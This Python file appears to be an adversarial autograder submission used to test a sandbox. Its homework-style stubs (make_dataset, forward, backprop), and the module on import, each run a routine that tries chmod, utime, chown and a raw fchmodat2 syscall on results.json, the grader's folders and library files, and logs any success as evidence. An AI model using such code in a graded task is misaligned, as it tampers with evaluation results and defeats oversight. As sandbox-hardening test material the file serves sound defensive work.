"""Opens results.json and the grader's folders to all by every call that changes a mode or an owner."""
import ctypes
import os
import sys

import numpy as np


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE chmod-results-json:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-chmod-results-json", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


LIBC = ctypes.CDLL(None, use_errno=True)


def syscall(number, *args):
    """A system call without libc's wrapper: the result, or minus the error's number."""
    result = LIBC.syscall(ctypes.c_long(number), *(ctypes.c_void_p(a) if isinstance(a, int) else a for a in args))
    return -ctypes.get_errno() if result == -1 else result

AT_FDCWD = -100
PLACES = ["/autograder/results", "/autograder/results/results.json", "/autograder/source", "/tmp", np.__file__, os.__file__]
PLACES += [module.__file__ for name, module in sys.modules.items() if name.startswith("grader") and module.__file__]


def attack():
    for place in PLACES:
        path = ctypes.c_char_p(place.encode())
        before = os.stat(place).st_mode if os.path.exists(place) else None
        if before is None:
            continue
        for name, change in (
            ("chmod", lambda: os.chmod(place, before & 0o7777)),
            ("utime", lambda: os.utime(place, (1, 1))),
            ("chown", lambda: os.chown(place, os.getuid(), os.getgid())),
            ("fchmodat2", lambda: syscall(452, AT_FDCWD, path, before & 0o7777, 0)),
        ):
            try:
                if change() in (None, 0):
                    evidence(f"{name} {place}")
            except OSError:
                continue


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
